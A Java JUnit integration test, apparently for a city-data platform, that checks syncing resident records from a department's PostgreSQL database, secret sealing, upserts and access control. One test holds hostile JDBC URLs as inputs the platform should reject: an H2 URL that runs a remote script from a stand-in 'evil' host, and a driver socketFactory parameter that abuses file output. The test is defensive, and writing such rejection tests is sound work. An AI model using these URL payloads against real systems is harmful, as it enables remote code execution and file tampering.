package org.citydata.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.citydata.support.Drafts.field;
import static org.citydata.support.Drafts.valid;
import static org.citydata.support.Drafts.with;

import java.nio.charset.StandardCharsets;
import java.sql.DriverManager;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import javax.sql.DataSource;
import org.citydata.kernel.id.ResidentIdNumber;
import org.citydata.support.Http;
import org.citydata.support.WebTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * A department's PostgreSQL database as a source: a second database on the test's PostgreSQL server, reached over
 * TCP with its own JDBC connection, exactly as a department's server would be.
 */
class DatabaseSourceTest extends WebTest {

    private static String departmentUrl;
    private static String platformUrl;

    @Autowired
    JdbcClient db;

    @Autowired
    DataSource platform;

    private Http officer;
    private String code;
    private String table;

    @BeforeEach
    void aResourceAndItsDepartmentDatabase() throws Exception {
        if (departmentUrl == null) {
            String url;
            try (var c = platform.getConnection()) {
                url = c.getMetaData().getURL();
            }
            db.sql("create database dept_source").update();
            platformUrl = url.replaceFirst("\\?.*$", "");
            departmentUrl = url.replaceFirst("\\?.*$", "").replaceFirst("/[^/]+$", "/dept_source");
        }
        table = "people_" + unique("t").toLowerCase();
        department("create table " + table + " (id_number char(18) primary key, xm varchar(20), born date, updated_at timestamp not null)");
        department("insert into " + table + " select id, '居民' || n, date '1990-01-01' + n, timestamp '2026-01-01' + n * interval '1 minute' "
                + "from (select n, " + idSql() + " as id from generate_series(1, 120) n) s");
        officer = signedIn("ga_officer");
        code = officer.post("/api/v1/resources", with(valid(unique("户籍人口"), "3205GA"), "fields", List.of(
                field("id_number", "公民身份号码", "RESIDENT_ID", 18, "L4", true),
                field("name", "姓名", "STRING", 20, "L3", false),
                field("born", "出生日期", "DATE", null, "L3", false),
                field("updated_at", "更新时间", "TIMESTAMP", null, "L1", false)))).json().get("code").asString();
    }

    /** The SQL for a valid resident ID numbered n (region 320506, born 1990-01-01). */
    private static String idSql() {
        // the check character is computed in Java for the 17 digits PostgreSQL builds; a lookup table joins them
        var values = new StringBuilder("(select c from (values ");
        for (int n = 1; n <= 999; n++) {
            String first17 = "32050619900101" + String.format("%03d", n);
            if (n > 1) values.append(',');
            values.append("(").append(n).append(",'").append(first17).append(ResidentIdNumber.checkCharacter(first17)).append("')");
        }
        return values.append(") v(k, c) where k = n)").toString();
    }

    private static void department(String sql) throws Exception {
        try (var c = DriverManager.getConnection(departmentUrl, "postgres", ""); var s = c.createStatement()) {
            s.execute(sql);
        }
    }

    private Map<String, Object> jdbc(String query, String watermark, String mode) {
        var settings = new LinkedHashMap<String, Object>();
        settings.put("url", departmentUrl);
        settings.put("username", "postgres");
        if (query == null) settings.put("table", table);
        else settings.put("query", query);
        settings.put("watermarkColumn", watermark);
        var form = new LinkedHashMap<String, Object>();
        form.put("kind", "JDBC");
        form.put("name", unique("户籍库"));
        form.put("mode", mode);
        form.put("jdbc", settings);
        form.put("secret", "S3cret-pass-公安");
        form.put("mapping", Map.of("xm", "name"));
        return form;
    }

    private long create(Map<String, Object> form) {
        var r = officer.post("/api/v1/resources/" + code + "/sources", form);
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        return r.json().get("id").asLong();
    }

    private Http.Response sync(long source) {
        return officer.post("/api/v1/sources/" + source + "/sync?wait=true", Map.of());
    }

    @Test
    void aTableSyncsThroughTheMappingAndTheSecretIsSealed() {
        long source = create(jdbc(null, null, "REPLACE"));

        var check = officer.post("/api/v1/sources/" + source + "/test", Map.of()).json();
        assertThat(check.get("reachable").asBoolean()).as(check.toString()).isTrue();
        assertThat(check.get("columnsMatch").asBoolean()).as(check.toString()).isTrue();
        assertThat(check.get("sample").size()).isEqualTo(5);

        var r = sync(source);
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        assertThat(r.json().get("rowsLoaded").asLong()).isEqualTo(120);
        assertThat(r.json().get("sourceId").asLong()).isEqualTo(source);
        var rows = officer.get("/api/v1/resources/" + code + "/data/rows?fields=name,born&size=1").json();
        assertThat(rows.get("total").asLong()).isEqualTo(120);
        assertThat(rows.get("rows").get(0).get(0).asString()).startsWith("居民");

        byte[] stored = db.sql("select secret from ingest_source where id = ?").param(source).query(byte[].class).single();
        assertThat(new String(stored, StandardCharsets.ISO_8859_1)).doesNotContain("S3cret");
        var shown = officer.get("/api/v1/sources/" + source).body();
        assertThat(shown).doesNotContain("S3cret").contains("\"secretSet\":true");
    }

    @Test
    void anIncrementalUpsertReadsOnlyWhatChangedAndCountsIt() throws Exception {
        long source = create(jdbc(null, "updated_at", "UPSERT"));
        assertThat(sync(source).json().get("rowsLoaded").asLong()).isEqualTo(120);
        String watermark = db.sql("select watermark from ingest_source where id = ?").param(source).query(String.class).single();
        assertThat(watermark).startsWith("2026-01-01 02:00"); // row 120: 120 minutes in

        department("update " + table + " set xm = '改名', updated_at = timestamp '2026-02-01' where xm = '居民7'");
        department("insert into " + table + " select " + idSql().replace("k = n", "k = 500") + ", '新生', date '2026-01-01', timestamp '2026-02-02' from (select 1 n) s");
        var second = sync(source).json();
        // the two changed rows, and row 120 again: an upsert re-reads the rows at the watermark itself
        assertThat(second.get("rowsRead").asLong()).as(second.toString()).isEqualTo(3);
        var versions = officer.get("/api/v1/resources/" + code + "/data/versions").json();
        assertThat(versions.get(0).get("rowCount").asLong()).isEqualTo(121);
        assertThat(versions.get(0).get("added").asLong()).isEqualTo(1);
        assertThat(versions.get(0).get("changed").asLong()).isEqualTo(1);
        assertThat(versions.get(0).get("loadMode").asString()).isEqualTo("UPSERT");

        // nothing new: the sync succeeds and makes no version
        var third = sync(source).json();
        assertThat(third.get("status").asString()).as(third.toString()).isEqualTo("SUCCEEDED");
        assertThat(third.has("version")).isFalse();
        assertThat(officer.get("/api/v1/resources/" + code + "/data/versions").json().size()).isEqualTo(versions.size());
    }

    @Test
    void aSourceThatGoesAwayMidReadLoadsNothingAndKeepsTheVersion() {
        long good = create(jdbc(null, null, "REPLACE"));
        assertThat(sync(good).status()).isEqualTo(201);
        // the department's server ends the connection after 5,000 of 20,000 rows
        var form = jdbc("select " + idSql().replace("k = n", "k = n % 999 + 1") + " || n as id_number, 'x' as xm, null::date as born, "
                + "now()::timestamp as updated_at, case when n = 5000 then pg_terminate_backend(pg_backend_pid()) end as dies "
                + "from generate_series(1, 20000) n", null, "REPLACE");
        form.put("mapping", Map.of("xm", "name", "dies", ""));
        long dying = create(form);

        var r = sync(dying);
        assertThat(r.status()).as(r.body()).isEqualTo(400);
        assertThat(r.json().get("code").asString()).isEqualTo("INGEST_SOURCE_LOST");
        assertThat(r.json().get("run").get("status").asString()).isEqualTo("FAILED");
        var rows = officer.get("/api/v1/resources/" + code + "/data/rows?size=1").json();
        assertThat(rows.get("total").asLong()).isEqualTo(120);
        assertThat(rows.get("version").asInt()).isEqualTo(1);
    }

    @Test
    void columnsThatDoNotFitFailNamingThemUntilTheyAreMapped() {
        var form = jdbc(null, null, "REPLACE");
        form.put("mapping", Map.of());
        long source = create(form);
        var r = sync(source);
        assertThat(r.json().get("code").asString()).isEqualTo("INGEST_COLUMNS_MISMATCH");
        assertThat(r.json().get("detail").asString()).contains("name（姓名）").contains("xm");
        assertThat(r.json().get("run").get("columns").toString()).contains("xm");

        form.put("mapping", Map.of("xm", "name"));
        assertThat(officer.put("/api/v1/sources/" + source, form).status()).isEqualTo(200);
        assertThat(sync(source).status()).isEqualTo(201);
    }

    @Test
    void unsafeOrForbiddenPlacesAreRefused() {
        var own = jdbc(null, null, "REPLACE");
        ((Map<String, Object>) own.get("jdbc")).put("url", platformUrl);
        assertThat(officer.post("/api/v1/resources/" + code + "/sources", own).json().get("code").asString()).isEqualTo("INGEST_SOURCE_IS_PLATFORM");

        var far = jdbc(null, null, "REPLACE");
        ((Map<String, Object>) far.get("jdbc")).put("url", "jdbc:postgresql://10.20.30.40:5432/gaj");
        assertThat(officer.post("/api/v1/resources/" + code + "/sources", far).json().get("code").asString()).isEqualTo("INGEST_HOST_NOT_ALLOWED");

        var h2 = jdbc(null, null, "REPLACE");
        ((Map<String, Object>) h2.get("jdbc")).put("url", "jdbc:h2:mem:x;INIT=runscript from 'http://evil/x.sql'");
        assertThat(officer.post("/api/v1/resources/" + code + "/sources", h2).json().get("code").asString()).isEqualTo("INGEST_SOURCE_URL");

        var factory = jdbc(null, null, "REPLACE");
        ((Map<String, Object>) factory.get("jdbc")).put("url", departmentUrl + (departmentUrl.contains("?") ? "&" : "?") + "socketFactory=java.io.FileOutputStream");
        assertThat(officer.post("/api/v1/resources/" + code + "/sources", factory).json().get("code").asString()).isEqualTo("INGEST_SOURCE_URL_PARAMETER");

        var delete = officer.post("/api/v1/resources/" + code + "/sources", jdbc("delete from " + table, null, "REPLACE"));
        assertThat(delete.status()).isEqualTo(400);
        assertThat(delete.body()).contains("jdbc.query");

        var fullReplace = officer.post("/api/v1/resources/" + code + "/sources", jdbc(null, "updated_at", "REPLACE"));
        assertThat(fullReplace.body()).contains("\"mode\"");

        long source = create(jdbc(null, null, "REPLACE"));
        var other = signedIn("rs_officer");
        assertThat(other.post("/api/v1/sources/" + source + "/sync?wait=true", Map.of()).status()).isIn(403, 404);
        assertThat(other.get("/api/v1/sources/" + source).status()).isEqualTo(404);
        assertThat(signedIn("ga_staff").post("/api/v1/sources/" + source + "/sync", Map.of()).status()).isIn(403, 404);
        assertThat(db.sql("select count(*) from ingest_run where source_id = ?").param(source).query(Long.class).single()).isZero();
    }

    @Test
    void aWrongPasswordIsReportedByTheConnectionTest() {
        var form = jdbc(null, null, "REPLACE");
        ((Map<String, Object>) form.get("jdbc")).put("username", "nobody_" + unique("u").toLowerCase());
        long source = create(form);
        var check = officer.post("/api/v1/sources/" + source + "/test", Map.of()).json();
        assertThat(check.get("reachable").asBoolean()).isFalse();
        assertThat(check.get("problemCode").asString()).isEqualTo("INGEST_SOURCE_UNREACHABLE");
        assertThat(check.get("problemArgs").get(0).asString()).contains("nobody_");
    }

    @Test
    void aSecretSealedWithAnotherKeyIsReportedAndNothingIsRead() {
        long source = create(jdbc(null, null, "REPLACE"));
        // as if the platform's key had changed since the password was stored
        byte[] foreign = new byte[40];
        java.util.Arrays.fill(foreign, (byte) 1); // the format byte, then a nonce and a text no key of ours sealed
        db.sql("update ingest_source set secret = ? where id = ?").params(foreign, source).update();
        var check = officer.post("/api/v1/sources/" + source + "/test", Map.of()).json();
        assertThat(check.get("reachable").asBoolean()).isFalse();
        assertThat(check.get("problemCode").asString()).isEqualTo("INGEST_SECRET_UNREADABLE");
        var sync = officer.post("/api/v1/sources/" + source + "/sync?wait=true", Map.of()).json();
        assertThat(sync.get("code").asString()).isEqualTo("INGEST_SECRET_UNREADABLE");
        assertThat(sync.get("run").get("status").asString()).isEqualTo("FAILED");
    }
}
